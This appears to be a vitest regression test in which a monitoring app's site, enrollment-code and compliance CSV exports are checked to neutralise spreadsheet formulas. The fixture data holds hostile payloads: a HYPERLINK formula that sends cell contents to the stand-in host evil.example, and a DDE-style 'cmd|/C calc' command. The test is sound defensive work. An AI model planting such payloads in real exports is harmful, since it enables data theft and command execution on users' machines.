// Issue 14, case 9: CSV formula injection. A site name or commune such as =HYPERLINK(...) was written as is
// into the site export, the enrollment-code CSV and the compliance CSV, where a spreadsheet runs it. Now every
// CSV export neutralises formulas (a leading apostrophe), and the site import strips that guard again, so an
// exported file imports unchanged.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { complianceCsv } from '../../collector/compliance/csv.ts';
import type { ComplianceRun } from '../../collector/compliance/verdicts.ts';
import { type HostileStack, hostileStack } from './support.ts';

const influxUrl = inject('influxUrl');
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
let s: HostileStack;
beforeAll(async () => {
  s = await hostileStack(influxUrl, 'hostile_csv');
  await s.tc.registry.addSite({ code: 'LC-666', name: FORMULA, commune: '+1+cmd|/C calc', operator: '@SUM(A1)' });
});
afterAll(() => s?.tc.cleanup());

const cells = (csv: string) => (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
const dangerous = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe('CSV exports and a hostile site name', () => {
  it('neutralises formulas in the site export, and the export imports unchanged', async () => {
    const res = await s.tc.app.request('/api/v1/admin/sites/export', { headers: s.tc.adminAuth() });
    const csv = await res.text();
    expect(cells(csv).filter(dangerous)).toEqual([]);
    expect(cells(csv)).toContain(`'${FORMULA}`);
    const imported = await s.tc.app.request('/api/v1/admin/sites/import', { method: 'POST', headers: { authorization: `Bearer ${s.tc.adminToken}`, 'content-type': 'text/csv' }, body: csv });
    expect(imported.status).toBe(200);
    expect(await imported.json()).toMatchObject({ created: 0, updated: 0 });
    expect(await s.tc.registry.getSite('LC-666')).toMatchObject({ name: FORMULA, commune: '+1+cmd|/C calc', operator: '@SUM(A1)' });
  });

  it('neutralises formulas in the enrollment-code CSV', async () => {
    const res = await s.tc.app.request('/api/v1/admin/enrollment-sheets', { method: 'POST', headers: s.tc.adminAuth(), body: JSON.stringify({ sites: ['LC-666'], format: 'csv' }) });
    expect(res.status).toBe(200);
    const all = cells(await res.text());
    expect(all.filter(dangerous)).toEqual([]);
    expect(all).toContain(`'${FORMULA}`);
  });

  it('neutralises formulas in the compliance CSV and keeps negative figures as numbers', () => {
    const run = {
      period: { label: '2025-09' },
      sites: [{ site: 'LC-666', name: FORMULA, commune: '+1+cmd|/C calc', operator: '@SUM(A1)', profile: 'default', verdict: 'FAIL', reasons: ['=1+1'], criteria: [{ id: 'rtt', verdict: 'FAIL', value: -3, comparison: '<=', threshold: 100, reason: '-bad' }] }],
    } as unknown as ComplianceRun;
    const all = cells(complianceCsv(run));
    expect(all.filter(dangerous).filter((c) => c !== '-3')).toEqual([]);
    expect(all).toContain('-3');
    expect(all).toContain(`'${FORMULA}`);
  });
});
